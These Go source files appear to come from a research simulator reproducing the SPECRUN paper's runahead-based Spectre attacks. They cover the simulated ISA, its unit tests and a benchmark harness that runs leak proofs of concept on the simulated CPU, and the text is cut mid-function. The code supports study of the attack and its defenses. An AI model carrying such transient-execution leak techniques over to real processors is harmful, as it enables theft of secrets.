		return [2]uint64{a[0] ^ b[0], a[1] ^ b[1]}
	}
	panic("isa: EvalVec on non-vector opcode " + op.Name())
}

// CondTaken evaluates a conditional branch predicate.
func CondTaken(op Opcode, a, b uint64) bool {
	switch op {
	case BEQ:
		return a == b
	case BNE:
		return a != b
	case BLT:
		return int64(a) < int64(b)
	case BGE:
		return int64(a) >= int64(b)
	case BLTU:
		return a < b
	case BGEU:
		return a >= b
	}
	panic("isa: CondTaken on non-branch opcode " + op.Name())
}

// EffAddr computes the effective address of a memory operation given the
// base and index register values.
func EffAddr(in Inst, base, index uint64) uint64 {
	addr := base + uint64(in.Imm)
	if in.UsesIndex() {
		addr += index << in.Scale
	}
	return addr
}
