// Package isa defines the instruction set executed by the simulated
// processor: registers, opcodes, instruction encoding and metadata.
//
// The ISA is a RISC-like 64-bit instruction set designed to exercise the
// microarchitectural mechanisms SPECRUN depends on: byte and word loads with
// indexed addressing (for Spectre gadgets), CALL/RET through a memory stack
// (for the RSB variants), CLFLUSH (to trigger runahead execution) and RDTSC
// (for the covert-channel probe).  Every instruction occupies InstBytes bytes
// of instruction memory so that program counters map onto I-cache lines.
package isa

import "fmt"

// InstBytes is the size of one instruction in instruction memory.  It is
// deliberately small (x86-like code density) so that I-cache behaviour during
// long runahead episodes matches the paper's Fig. 10 measurements.
const InstBytes = 4

// RegClass identifies one of the three architectural register files from
// Table 1 of the paper (integer, floating point, xmm/vector).
type RegClass uint8

const (
	// ClassNone marks an absent register operand.
	ClassNone RegClass = iota
	// ClassInt is the 64-bit integer register file (r0..r31, r0 reads zero).
	ClassInt
	// ClassFP is the 64-bit floating-point register file (f0..f15).
	ClassFP
	// ClassVec is the 128-bit vector register file (v0..v15).
	ClassVec
)

// Register-file sizes (architectural).  Table 1 additionally configures the
// physical register file sizes (80 int / 40 fp / 40 xmm); those live in the
// CPU configuration.
const (
	NumIntRegs = 32
	NumFPRegs  = 16
	NumVecRegs = 16
)

func (c RegClass) String() string {
	switch c {
	case ClassInt:
		return "int"
	case ClassFP:
		return "fp"
	case ClassVec:
		return "vec"
	default:
		return "none"
	}
}

// Reg names an architectural register.  The zero value means "no register".
type Reg uint16

// NoReg is the absent register operand.
const NoReg Reg = 0

// R returns the i'th integer register.  R(0) is hardwired to zero.
func R(i int) Reg { return Reg(uint16(ClassInt)<<8 | uint16(i)) }

// F returns the i'th floating-point register.
func F(i int) Reg { return Reg(uint16(ClassFP)<<8 | uint16(i)) }

// V returns the i'th vector register.
func V(i int) Reg { return Reg(uint16(ClassVec)<<8 | uint16(i)) }

// SP is the conventional stack pointer used by CALL and RET.
var SP = R(29)

// Class reports which register file the register belongs to.
func (r Reg) Class() RegClass { return RegClass(r >> 8) }

// Idx reports the index within the register file.
func (r Reg) Idx() int { return int(r & 0xff) }

// IsZero reports whether the register is the hardwired integer zero register.
func (r Reg) IsZero() bool { return r.Class() == ClassInt && r.Idx() == 0 }

// Valid reports whether the register names an existing architectural
// register.  NoReg is not valid.
func (r Reg) Valid() bool {
	switch r.Class() {
	case ClassInt:
		return r.Idx() < NumIntRegs
	case ClassFP:
		return r.Idx() < NumFPRegs
	case ClassVec:
		return r.Idx() < NumVecRegs
	default:
		return false
	}
}

func (r Reg) String() string {
	switch r.Class() {
	case ClassInt:
		return fmt.Sprintf("r%d", r.Idx())
	case ClassFP:
		return fmt.Sprintf("f%d", r.Idx())
	case ClassVec:
		return fmt.Sprintf("v%d", r.Idx())
	default:
		return "-"
	}
}

// ParseReg parses a register name such as "r12", "f3" or "v0".
func ParseReg(s string) (Reg, error) {
	if s == "sp" {
		return SP, nil
	}
	if len(s) < 2 {
		return NoReg, fmt.Errorf("isa: invalid register %q", s)
	}
	var n int
	if _, err := fmt.Sscanf(s[1:], "%d", &n); err != nil || n < 0 {
		return NoReg, fmt.Errorf("isa: invalid register %q", s)
	}
	var r Reg
	switch s[0] {
	case 'r':
		r = R(n)
	case 'f':
		r = F(n)
	case 'v':
		r = V(n)
	default:
		return NoReg, fmt.Errorf("isa: invalid register %q", s)
	}
	if !r.Valid() {
		return NoReg, fmt.Errorf("isa: register %q out of range", s)
	}
	return r, nil
}
