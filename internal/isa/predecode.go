package isa

// Predecoded is the uop template for one instruction: everything the pipeline
// front end derives from an Inst, computed once.  Machines cache one template
// per static PC, so fetch and dispatch read flat fields instead of walking
// the Kind()/SrcRegs()/Dest() switch chains on every dynamic instance.
//
// The zero value (Op == BAD) marks an unfilled cache slot; Predecode never
// produces it for a valid instruction, since BAD never assembles.
type Predecoded struct {
	Op        Opcode
	Kind      Kind
	FU        FU
	Lat       uint8 // execution latency in cycles
	MemSize   uint8 // access width in bytes (0 for non-memory ops)
	NSrc      uint8 // number of valid entries in Srcs
	Scale     uint8
	Srcs      [4]Reg // source registers, SrcRegs order (incl. implicit SP)
	Dest      Reg    // destination register incl. implicit SP, or NoReg
	DestClass RegClass

	Load        bool // reads data memory (incl. RET)
	Store       bool // writes data memory (incl. CALL/CALLR)
	MemRef      bool // references data memory at all
	CondBranch  bool
	Control     bool // redirects the program counter
	Serializing bool // must execute at the ROB head
	UsesIndex   bool // effective address uses rs2<<scale
}

// Predecode derives the uop template for one instruction.
func Predecode(in Inst) Predecoded {
	op := in.Op
	p := Predecoded{
		Op:          op,
		Kind:        op.Kind(),
		FU:          op.FU(),
		Lat:         uint8(op.Latency()),
		MemSize:     uint8(op.MemSize()),
		Scale:       in.Scale,
		Dest:        in.Dest(),
		Load:        op.IsLoad(),
		Store:       op.IsStore(),
		MemRef:      op.IsMemRef(),
		CondBranch:  op.IsCondBranch(),
		Control:     op.IsControl(),
		Serializing: op.IsSerializing(),
		UsesIndex:   in.UsesIndex(),
	}
	p.DestClass = p.Dest.Class()
	srcs := in.SrcRegs(p.Srcs[:0])
	p.NSrc = uint8(len(srcs))
	return p
}
