package isa

import (
	"fmt"
	"strings"
)

// Inst is one decoded instruction.  The assembler produces these directly;
// there is no binary encoding (the simulator is a decoupled functional/timing
// model and fetches decoded instructions, charging I-cache timing by PC).
type Inst struct {
	Op     Opcode
	Rd     Reg    // destination (loads, ALU, RDTSC)
	Rs1    Reg    // first source / base address
	Rs2    Reg    // second source / index register
	Rs3    Reg    // store data register
	Imm    int64  // immediate or address displacement
	Target uint64 // branch/jump/call target (byte address)
	Scale  uint8  // index shift for rs2 in addressing (0..4)
}

// SrcRegs appends the valid source registers of the instruction to dst and
// returns it.  The hardwired zero register is included (it always reads 0 but
// still appears as an operand).
func (in Inst) SrcRegs(dst []Reg) []Reg {
	switch in.Op.Kind() {
	case KindALU:
		switch in.Op {
		case MOVI, FMOVI:
			// no register sources
		case ADDI, ANDI, ORI, XORI, SHLI, SHRI:
			dst = append(dst, in.Rs1)
		default:
			dst = append(dst, in.Rs1, in.Rs2)
		}
	case KindLoad:
		dst = append(dst, in.Rs1)
		if in.Rs2 != NoReg {
			dst = append(dst, in.Rs2)
		}
	case KindStore:
		dst = append(dst, in.Rs1)
		if in.Rs2 != NoReg {
			dst = append(dst, in.Rs2)
		}
		dst = append(dst, in.Rs3)
	case KindBranch:
		dst = append(dst, in.Rs1, in.Rs2)
	case KindJumpR:
		dst = append(dst, in.Rs1)
	case KindCallR:
		dst = append(dst, in.Rs1, SP)
	case KindFlush:
		dst = append(dst, in.Rs1)
	case KindCall, KindRet:
		dst = append(dst, SP)
	}
	return dst
}

// Dest reports the destination register, or NoReg.  CALL and RET update the
// stack pointer as an implicit destination.
func (in Inst) Dest() Reg {
	switch in.Op.Kind() {
	case KindCall, KindCallR, KindRet:
		return SP
	}
	if in.Op.DestClass() == ClassNone {
		return NoReg
	}
	return in.Rd
}

// UsesIndex reports whether the effective address uses rs2<<scale.
func (in Inst) UsesIndex() bool {
	return in.Op.IsMemRef() && in.Rs2 != NoReg
}

// Validate checks operand well-formedness.
func (in Inst) Validate() error {
	if in.Op == BAD || int(in.Op) >= NumOpcodes {
		return fmt.Errorf("isa: bad opcode %d", in.Op)
	}
	if in.Scale > 4 {
		return fmt.Errorf("isa: %s: scale %d out of range", in.Op, in.Scale)
	}
	if dc := in.Op.DestClass(); dc != ClassNone {
		if in.Op.Kind() == KindCall || in.Op.Kind() == KindRet {
			// implicit sp destination, rd unused
		} else if !in.Rd.Valid() || in.Rd.Class() != dc {
			return fmt.Errorf("isa: %s: destination %s is not a %s register", in.Op, in.Rd, dc)
		}
	}
	var srcs [4]Reg
	for _, r := range in.SrcRegs(srcs[:0]) {
		if !r.Valid() {
			return fmt.Errorf("isa: %s: invalid source register %s", in.Op, r)
		}
	}
	if in.Op.IsStore() && in.Op.Kind() == KindStore {
		want := ClassInt
		switch in.Op {
		case FST:
			want = ClassFP
		case VST:
			want = ClassVec
		}
		if in.Rs3.Class() != want {
			return fmt.Errorf("isa: %s: store data register %s is not a %s register", in.Op, in.Rs3, want)
		}
	}
	return nil
}

// String disassembles the instruction.
func (in Inst) String() string {
	var b strings.Builder
	b.WriteString(in.Op.Name())
	arg := func(s string) {
		if strings.HasSuffix(b.String(), in.Op.Name()) {
			b.WriteByte(' ')
		} else {
			b.WriteString(", ")
		}
		b.WriteString(s)
	}
	addr := func() string {
		if in.UsesIndex() {
			return fmt.Sprintf("[%s + %s*%d + %d]", in.Rs1, in.Rs2, 1<<in.Scale, in.Imm)
		}
		return fmt.Sprintf("[%s + %d]", in.Rs1, in.Imm)
	}
	switch in.Op.Kind() {
	case KindALU:
		switch in.Op {
		case MOVI, FMOVI:
			arg(in.Rd.String())
			arg(fmt.Sprintf("%d", in.Imm))
		case ADDI, ANDI, ORI, XORI, SHLI, SHRI:
			arg(in.Rd.String())
			arg(in.Rs1.String())
			arg(fmt.Sprintf("%d", in.Imm))
		default:
			arg(in.Rd.String())
			arg(in.Rs1.String())
			arg(in.Rs2.String())
		}
	case KindLoad:
		arg(in.Rd.String())
		arg(addr())
	case KindStore:
		arg(addr())
		arg(in.Rs3.String())
	case KindBranch:
		arg(in.Rs1.String())
		arg(in.Rs2.String())
		arg(fmt.Sprintf("0x%x", in.Target))
	case KindJump, KindCall:
		arg(fmt.Sprintf("0x%x", in.Target))
	case KindJumpR, KindCallR:
		arg(in.Rs1.String())
	case KindFlush:
		arg(addr())
	case KindRDTSC:
		arg(in.Rd.String())
	}
	return b.String()
}
