package isa

// Opcode enumerates every instruction of the ISA.
type Opcode uint8

const (
	// BAD is the zero opcode; executing it is an error.
	BAD Opcode = iota

	// Integer ALU, register forms.
	ADD // rd = rs1 + rs2
	SUB // rd = rs1 - rs2
	MUL // rd = rs1 * rs2
	DIV // rd = rs1 / rs2 (unsigned; x/0 = ^0)
	AND // rd = rs1 & rs2
	OR  // rd = rs1 | rs2
	XOR // rd = rs1 ^ rs2
	SHL // rd = rs1 << (rs2 & 63)
	SHR // rd = rs1 >> (rs2 & 63) (logical)

	// Integer ALU, immediate forms.
	ADDI // rd = rs1 + imm
	ANDI // rd = rs1 & imm
	ORI  // rd = rs1 | imm
	XORI // rd = rs1 ^ imm
	SHLI // rd = rs1 << (imm & 63)
	SHRI // rd = rs1 >> (imm & 63)
	MOVI // rd = imm (64-bit immediate)

	// Loads.  Addressing is rs1 + (rs2 << scale) + imm; the indexed forms
	// use rs2, the plain forms leave it as NoReg.
	LD   // rd = mem64[addr]
	LDB  // rd = zx(mem8[addr])
	LDX  // rd = mem64[rs1 + rs2<<scale + imm]
	LDBX // rd = zx(mem8[rs1 + rs2<<scale + imm])

	// Stores.  The data register is Rs3; addressing as for loads.
	ST   // mem64[addr] = rs3
	STB  // mem8[addr] = rs3 (low byte)
	STX  // mem64[rs1 + rs2<<scale + imm] = rs3
	STBX // mem8[rs1 + rs2<<scale + imm] = rs3

	// Conditional branches compare rs1 against rs2.
	BEQ
	BNE
	BLT  // signed
	BGE  // signed
	BLTU // unsigned
	BGEU // unsigned

	// Unconditional control flow.
	JMP   // pc = target
	JR    // pc = rs1 (indirect; predicted via BTB)
	CALL  // push return address to [sp-8], sp -= 8, pc = target
	CALLR // as CALL but pc = rs1
	RET   // pc = mem64[sp], sp += 8 (predicted via RSB)

	// Cache and measurement instructions.
	CLFLUSH // evict the line containing rs1+imm from the whole hierarchy
	RDTSC   // rd = current cycle (serialising)

	// Floating point (operands are float64 bit patterns in f registers).
	FLD  // fd = mem64[rs1 + rs2<<scale + imm]
	FST  // mem64[...] = fs3
	FADD // fd = fs1 + fs2
	FSUB
	FMUL
	FDIV
	FMOVI // fd = imm (float64 bits)

	// Vector (128-bit, two 64-bit lanes).
	VLD   // vd = mem128[addr]
	VST   // mem128[addr] = vs3
	VADDQ // lane-wise add
	VXORQ // lane-wise xor

	// Miscellaneous.
	NOP   // consumes only a ROB entry; no destination, no backend resource
	FENCE // serialising: dispatch stalls until the ROB drains
	HALT  // stop the program

	numOpcodes
)

// NumOpcodes is the number of defined opcodes (including BAD).
const NumOpcodes = int(numOpcodes)

// Kind is the coarse behavioural class of an opcode.
type Kind uint8

const (
	KindBad Kind = iota
	KindALU
	KindLoad
	KindStore
	KindBranch // conditional
	KindJump   // unconditional direct
	KindJumpR  // unconditional indirect
	KindCall   // direct call (store + jump)
	KindCallR  // indirect call
	KindRet    // return (load + indirect jump)
	KindFlush
	KindRDTSC
	KindNop
	KindFence
	KindHalt
)

// FU identifies a functional-unit class from Table 1.
type FU uint8

const (
	FUNone FU = iota
	FUIntALU
	FUIntMul
	FUIntDiv
	FUFPAdd
	FUFPMul
	FUFPDiv
	FUMem // load/store/flush port
)

type opInfo struct {
	name      string
	kind      Kind
	fu        FU
	lat       uint8    // execution latency in cycles (Table 1)
	destClass RegClass // ClassNone if no destination
	memSize   uint8    // bytes accessed (0 for non-memory ops)
}

var opTable = [numOpcodes]opInfo{
	BAD: {"bad", KindBad, FUNone, 0, ClassNone, 0},

	ADD: {"add", KindALU, FUIntALU, 1, ClassInt, 0},
	SUB: {"sub", KindALU, FUIntALU, 1, ClassInt, 0},
	MUL: {"mul", KindALU, FUIntMul, 2, ClassInt, 0},
	DIV: {"div", KindALU, FUIntDiv, 5, ClassInt, 0},
	AND: {"and", KindALU, FUIntALU, 1, ClassInt, 0},
	OR:  {"or", KindALU, FUIntALU, 1, ClassInt, 0},
	XOR: {"xor", KindALU, FUIntALU, 1, ClassInt, 0},
	SHL: {"shl", KindALU, FUIntALU, 1, ClassInt, 0},
	SHR: {"shr", KindALU, FUIntALU, 1, ClassInt, 0},

	ADDI: {"addi", KindALU, FUIntALU, 1, ClassInt, 0},
	ANDI: {"andi", KindALU, FUIntALU, 1, ClassInt, 0},
	ORI:  {"ori", KindALU, FUIntALU, 1, ClassInt, 0},
	XORI: {"xori", KindALU, FUIntALU, 1, ClassInt, 0},
	SHLI: {"shli", KindALU, FUIntALU, 1, ClassInt, 0},
	SHRI: {"shri", KindALU, FUIntALU, 1, ClassInt, 0},
	MOVI: {"movi", KindALU, FUIntALU, 1, ClassInt, 0},

	LD:   {"ld", KindLoad, FUMem, 2, ClassInt, 8},
	LDB:  {"ldb", KindLoad, FUMem, 2, ClassInt, 1},
	LDX:  {"ldx", KindLoad, FUMem, 2, ClassInt, 8},
	LDBX: {"ldbx", KindLoad, FUMem, 2, ClassInt, 1},

	ST:   {"st", KindStore, FUMem, 1, ClassNone, 8},
	STB:  {"stb", KindStore, FUMem, 1, ClassNone, 1},
	STX:  {"stx", KindStore, FUMem, 1, ClassNone, 8},
	STBX: {"stbx", KindStore, FUMem, 1, ClassNone, 1},

	BEQ:  {"beq", KindBranch, FUIntALU, 1, ClassNone, 0},
	BNE:  {"bne", KindBranch, FUIntALU, 1, ClassNone, 0},
	BLT:  {"blt", KindBranch, FUIntALU, 1, ClassNone, 0},
	BGE:  {"bge", KindBranch, FUIntALU, 1, ClassNone, 0},
	BLTU: {"bltu", KindBranch, FUIntALU, 1, ClassNone, 0},
	BGEU: {"bgeu", KindBranch, FUIntALU, 1, ClassNone, 0},

	JMP:   {"jmp", KindJump, FUIntALU, 1, ClassNone, 0},
	JR:    {"jr", KindJumpR, FUIntALU, 1, ClassNone, 0},
	CALL:  {"call", KindCall, FUMem, 1, ClassNone, 8},
	CALLR: {"callr", KindCallR, FUMem, 1, ClassNone, 8},
	RET:   {"ret", KindRet, FUMem, 2, ClassNone, 8},

	CLFLUSH: {"clflush", KindFlush, FUMem, 1, ClassNone, 1},
	RDTSC:   {"rdtsc", KindRDTSC, FUIntALU, 1, ClassInt, 0},

	FLD:   {"fld", KindLoad, FUMem, 2, ClassFP, 8},
	FST:   {"fst", KindStore, FUMem, 1, ClassNone, 8},
	FADD:  {"fadd", KindALU, FUFPAdd, 5, ClassFP, 0},
	FSUB:  {"fsub", KindALU, FUFPAdd, 5, ClassFP, 0},
	FMUL:  {"fmul", KindALU, FUFPMul, 10, ClassFP, 0},
	FDIV:  {"fdiv", KindALU, FUFPDiv, 15, ClassFP, 0},
	FMOVI: {"fmovi", KindALU, FUFPAdd, 1, ClassFP, 0},

	VLD:   {"vld", KindLoad, FUMem, 2, ClassVec, 16},
	VST:   {"vst", KindStore, FUMem, 1, ClassNone, 16},
	VADDQ: {"vaddq", KindALU, FUIntALU, 1, ClassVec, 0},
	VXORQ: {"vxorq", KindALU, FUIntALU, 1, ClassVec, 0},

	NOP:   {"nop", KindNop, FUNone, 1, ClassNone, 0},
	FENCE: {"fence", KindFence, FUNone, 1, ClassNone, 0},
	HALT:  {"halt", KindHalt, FUNone, 1, ClassNone, 0},
}

// Name returns the assembler mnemonic.
func (o Opcode) Name() string {
	if int(o) >= NumOpcodes {
		return "bad"
	}
	return opTable[o].name
}

func (o Opcode) String() string { return o.Name() }

// Kind reports the behavioural class.
func (o Opcode) Kind() Kind {
	if int(o) >= NumOpcodes {
		return KindBad
	}
	return opTable[o].kind
}

// FU reports which functional-unit class executes the opcode.
func (o Opcode) FU() FU { return opTable[o].fu }

// Latency reports the execution latency in cycles (cache access latency is
// added on top for memory operations).
func (o Opcode) Latency() int { return int(opTable[o].lat) }

// DestClass reports the register class of the destination, or ClassNone.
func (o Opcode) DestClass() RegClass { return opTable[o].destClass }

// MemSize reports the access width in bytes for memory operations.
func (o Opcode) MemSize() int { return int(opTable[o].memSize) }

// opFlags packs every derived opcode predicate into one byte per opcode, so
// the hot-path predicates below are a single unchecked table load instead of
// a chain of Kind() switches.  The table spans the full uint8 domain: any
// out-of-range opcode indexes a zero byte and every predicate reads false,
// matching the old KindBad fallthrough without a bounds check.
const (
	fLoad uint8 = 1 << iota
	fStore
	fMemRef
	fCondBranch
	fControl
	fSerializing
)

var opFlags = func() [256]uint8 {
	var t [256]uint8
	for op := 0; op < NumOpcodes; op++ {
		k := opTable[op].kind
		var f uint8
		if k == KindLoad || k == KindRet {
			f |= fLoad | fMemRef
		}
		if k == KindStore || k == KindCall || k == KindCallR {
			f |= fStore | fMemRef
		}
		if k == KindFlush {
			f |= fMemRef
		}
		if k == KindBranch {
			f |= fCondBranch
		}
		if k == KindRDTSC || k == KindFence {
			f |= fSerializing
		}
		switch k {
		case KindBranch, KindJump, KindJumpR, KindCall, KindCallR, KindRet:
			f |= fControl
		}
		t[op] = f
	}
	return t
}()

// IsLoad reports whether the opcode reads data memory (RET included: it pops
// the return address from the stack).
func (o Opcode) IsLoad() bool { return opFlags[o]&fLoad != 0 }

// IsStore reports whether the opcode writes data memory (CALL/CALLR push the
// return address).
func (o Opcode) IsStore() bool { return opFlags[o]&fStore != 0 }

// IsMemRef reports whether the opcode references data memory at all.
func (o Opcode) IsMemRef() bool { return opFlags[o]&fMemRef != 0 }

// IsCondBranch reports whether the opcode is a conditional branch.
func (o Opcode) IsCondBranch() bool { return opFlags[o]&fCondBranch != 0 }

// IsControl reports whether the opcode redirects the program counter.
func (o Opcode) IsControl() bool { return opFlags[o]&fControl != 0 }

// IsSerializing reports whether the opcode must execute at the head of the
// reorder buffer (RDTSC and FENCE).
func (o Opcode) IsSerializing() bool { return opFlags[o]&fSerializing != 0 }

// OpcodeByName maps a mnemonic back to its opcode, for the text assembler.
func OpcodeByName(name string) (Opcode, bool) {
	op, ok := opsByName[name]
	return op, ok
}

var opsByName = func() map[string]Opcode {
	m := make(map[string]Opcode, NumOpcodes)
	for op := Opcode(1); int(op) < NumOpcodes; op++ {
		m[op.Name()] = op
	}
	return m
}()
