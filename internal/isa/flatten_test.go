package isa

import "testing"

// The switch chains below are the pre-flattening predicate definitions, kept
// verbatim as the oracle for the opFlags lookup table that replaced them on
// the hot path.  Iterating the full uint8 domain (not just defined opcodes)
// also pins the table's out-of-range behaviour: everything reads false.

func oracleIsLoad(o Opcode) bool {
	k := o.Kind()
	return k == KindLoad || k == KindRet
}

func oracleIsStore(o Opcode) bool {
	k := o.Kind()
	return k == KindStore || k == KindCall || k == KindCallR
}

func oracleIsMemRef(o Opcode) bool {
	return oracleIsLoad(o) || oracleIsStore(o) || o.Kind() == KindFlush
}

func oracleIsCondBranch(o Opcode) bool { return o.Kind() == KindBranch }

func oracleIsControl(o Opcode) bool {
	switch o.Kind() {
	case KindBranch, KindJump, KindJumpR, KindCall, KindCallR, KindRet:
		return true
	}
	return false
}

func oracleIsSerializing(o Opcode) bool {
	k := o.Kind()
	return k == KindRDTSC || k == KindFence
}

func TestOpFlagsMatchSwitchOracle(t *testing.T) {
	for i := 0; i < 256; i++ {
		o := Opcode(i)
		if got, want := o.IsLoad(), oracleIsLoad(o); got != want {
			t.Errorf("%s (%d): IsLoad() = %v, want %v", o, i, got, want)
		}
		if got, want := o.IsStore(), oracleIsStore(o); got != want {
			t.Errorf("%s (%d): IsStore() = %v, want %v", o, i, got, want)
		}
		if got, want := o.IsMemRef(), oracleIsMemRef(o); got != want {
			t.Errorf("%s (%d): IsMemRef() = %v, want %v", o, i, got, want)
		}
		if got, want := o.IsCondBranch(), oracleIsCondBranch(o); got != want {
			t.Errorf("%s (%d): IsCondBranch() = %v, want %v", o, i, got, want)
		}
		if got, want := o.IsControl(), oracleIsControl(o); got != want {
			t.Errorf("%s (%d): IsControl() = %v, want %v", o, i, got, want)
		}
		if got, want := o.IsSerializing(), oracleIsSerializing(o); got != want {
			t.Errorf("%s (%d): IsSerializing() = %v, want %v", o, i, got, want)
		}
	}
}

// TestPredecodeMatchesInstDerivation pins the Predecoded template against the
// Inst/Opcode methods it caches, across every opcode with representative
// operand shapes (plain and indexed addressing for memory ops).
func TestPredecodeMatchesInstDerivation(t *testing.T) {
	variants := func(op Opcode) []Inst {
		base := Inst{Op: op, Rd: R(1), Rs1: R(2), Rs2: R(3), Rs3: R(4), Imm: 8, Target: 0x2000, Scale: 1}
		switch op {
		case FLD:
			base.Rd = F(1)
		case FADD, FSUB, FMUL, FDIV, FMOVI:
			base.Rd, base.Rs1, base.Rs2 = F(1), F(2), F(3)
		case FST:
			base.Rs3 = F(4)
		case VLD:
			base.Rd = V(1)
		case VADDQ, VXORQ:
			base.Rd, base.Rs1, base.Rs2 = V(1), V(2), V(3)
		case VST:
			base.Rs3 = V(4)
		}
		if !op.IsMemRef() {
			return []Inst{base}
		}
		noIdx := base
		noIdx.Rs2 = NoReg
		return []Inst{base, noIdx}
	}
	for i := 1; i < NumOpcodes; i++ {
		op := Opcode(i)
		for _, in := range variants(op) {
			p := Predecode(in)
			if p.Op != op || p.Kind != op.Kind() || p.FU != op.FU() {
				t.Errorf("%s: Op/Kind/FU mismatch: %+v", in, p)
			}
			if int(p.Lat) != op.Latency() || int(p.MemSize) != op.MemSize() {
				t.Errorf("%s: Lat/MemSize mismatch: %+v", in, p)
			}
			if p.Dest != in.Dest() || p.DestClass != in.Dest().Class() {
				t.Errorf("%s: Dest = %s/%v, want %s/%v", in, p.Dest, p.DestClass, in.Dest(), in.Dest().Class())
			}
			var buf [4]Reg
			srcs := in.SrcRegs(buf[:0])
			if int(p.NSrc) != len(srcs) {
				t.Fatalf("%s: NSrc = %d, want %d", in, p.NSrc, len(srcs))
			}
			for j, r := range srcs {
				if p.Srcs[j] != r {
					t.Errorf("%s: Srcs[%d] = %s, want %s", in, j, p.Srcs[j], r)
				}
			}
			if p.Load != op.IsLoad() || p.Store != op.IsStore() || p.MemRef != op.IsMemRef() ||
				p.CondBranch != op.IsCondBranch() || p.Control != op.IsControl() ||
				p.Serializing != op.IsSerializing() || p.UsesIndex != in.UsesIndex() {
				t.Errorf("%s: predicate mismatch: %+v", in, p)
			}
		}
	}
}
