module specrun

go 1.24
