// Benchmark harness: one benchmark per table and figure of the SPECRUN
// paper's evaluation.  Custom metrics carry the reproduced quantities:
//
//	go test -bench=. -benchmem
//
// BenchmarkTable1   — machine construction with the Table 1 configuration
// BenchmarkFig7_*   — normalized IPC per benchmark (metric: IPC, speedup)
// BenchmarkFig9_*   — the PHT PoC (metrics: leaked byte, latency contrast)
// BenchmarkFig10_*  — transient window sizes N1/N2/N3 (metric: N)
// BenchmarkFig11_*  — beyond-the-ROB leak on both machines
// BenchmarkFig12_*  — taint-tracking throughput (the §6 hardware's work)
// BenchmarkDefense_* — §6 mitigations under attack
// BenchmarkVariant_* — §4.3/§4.4 applicability matrix
// BenchmarkAblation_* — design-choice sensitivity studies
package specrun

import (
	"context"
	"runtime"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/attack"
	"specrun/internal/core"
	"specrun/internal/cpu"
	"specrun/internal/proggen"
	"specrun/internal/runahead"
	"specrun/internal/secure"
	"specrun/internal/workload"
)

func BenchmarkTable1Config(b *testing.B) {
	prog := workload.Bwaves()
	for i := 0; i < b.N; i++ {
		m := core.NewMachine(core.DefaultConfig(), prog)
		_ = m
	}
}

// ---- Fig. 7: normalized IPC ----

func benchIPC(b *testing.B, name string, kind runahead.Kind) {
	k, err := workload.ByName(name)
	if err != nil {
		b.Fatal(err)
	}
	cfg := core.DefaultConfig()
	cfg.Runahead.Kind = kind
	var ipc float64
	var cycles uint64
	for i := 0; i < b.N; i++ {
		st, err := core.RunProgramStats(cfg, k.Build())
		if err != nil {
			b.Fatal(err)
		}
		ipc = st.IPC()
		cycles = st.Cycles
	}
	b.ReportMetric(ipc, "IPC")
	b.ReportMetric(float64(cycles), "cycles")
}

func BenchmarkFig7_IPC_zeusm_base(b *testing.B) { benchIPC(b, "zeusm", runahead.KindNone) }
func BenchmarkFig7_IPC_zeusm_ra(b *testing.B)   { benchIPC(b, "zeusm", runahead.KindOriginal) }
func BenchmarkFig7_IPC_wrf_base(b *testing.B)   { benchIPC(b, "wrf", runahead.KindNone) }
func BenchmarkFig7_IPC_wrf_ra(b *testing.B)     { benchIPC(b, "wrf", runahead.KindOriginal) }
func BenchmarkFig7_IPC_bwave_base(b *testing.B) { benchIPC(b, "bwave", runahead.KindNone) }
func BenchmarkFig7_IPC_bwave_ra(b *testing.B)   { benchIPC(b, "bwave", runahead.KindOriginal) }
func BenchmarkFig7_IPC_lbm_base(b *testing.B)   { benchIPC(b, "lbm", runahead.KindNone) }
func BenchmarkFig7_IPC_lbm_ra(b *testing.B)     { benchIPC(b, "lbm", runahead.KindOriginal) }
func BenchmarkFig7_IPC_mcf_base(b *testing.B)   { benchIPC(b, "mcf", runahead.KindNone) }
func BenchmarkFig7_IPC_mcf_ra(b *testing.B)     { benchIPC(b, "mcf", runahead.KindOriginal) }
func BenchmarkFig7_IPC_Gems_base(b *testing.B)  { benchIPC(b, "Gems", runahead.KindNone) }
func BenchmarkFig7_IPC_Gems_ra(b *testing.B)    { benchIPC(b, "Gems", runahead.KindOriginal) }

// BenchmarkFig7_MeanSpeedup reports the headline number: the geometric-mean
// runahead speedup across the six kernels (paper: ~11%).
func BenchmarkFig7_MeanSpeedup(b *testing.B) {
	var mean float64
	for i := 0; i < b.N; i++ {
		rows, err := core.RunIPCComparison(core.DefaultConfig())
		if err != nil {
			b.Fatal(err)
		}
		mean = core.MeanSpeedup(rows)
	}
	b.ReportMetric((mean-1)*100, "speedup_%")
}

// ---- Sweep engine: Fig. 7 sharded across the worker pool ----

// benchIPCSweep runs the full 12-simulation Fig. 7 grid at a fixed worker
// count; comparing Workers1 with WorkersMax shows the wall-clock win of the
// parallel sweep engine on multi-core hosts (results are byte-identical).
func benchIPCSweep(b *testing.B, workers int) {
	var mean float64
	for i := 0; i < b.N; i++ {
		rows, err := core.RunIPCComparisonCtx(context.Background(), core.DefaultConfig(), workers)
		if err != nil {
			b.Fatal(err)
		}
		mean = core.MeanSpeedup(rows)
	}
	b.ReportMetric((mean-1)*100, "speedup_%")
}

func BenchmarkSweep_IPC_Workers1(b *testing.B)   { benchIPCSweep(b, 1) }
func BenchmarkSweep_IPC_WorkersMax(b *testing.B) { benchIPCSweep(b, runtime.GOMAXPROCS(0)) }

// BenchmarkSweep_VariantMatrix_WorkersMax shards the six §4.3/§4.4 PoC
// runs (four Spectre variants, two runahead variants).
func BenchmarkSweep_VariantMatrix_WorkersMax(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := core.RunVariantMatrixCtx(context.Background(), core.DefaultConfig(), runtime.GOMAXPROCS(0))
		if err != nil {
			b.Fatal(err)
		}
		if len(rows) != 6 {
			b.Fatalf("want 6 rows, got %d", len(rows))
		}
	}
}

// ---- Fig. 9: the SPECRUN PoC ----

func benchAttack(b *testing.B, cfg core.Config, p attack.Params, wantLeak bool) {
	var r core.AttackResult
	var err error
	for i := 0; i < b.N; i++ {
		r, err = core.RunAttack(cfg, p)
		if err != nil {
			b.Fatal(err)
		}
	}
	if r.Leaked != wantLeak {
		b.Fatalf("leak = %v, want %v (best index %d)", r.Leaked, wantLeak, r.BestIdx)
	}
	if r.Leaked {
		b.ReportMetric(float64(r.BestIdx), "leaked_byte")
		b.ReportMetric(float64(r.Median)/float64(r.BestLat), "latency_contrast")
	}
	b.ReportMetric(float64(r.Stats.RunaheadEpisodes), "episodes")
}

func BenchmarkFig9_SpecrunPHT(b *testing.B) {
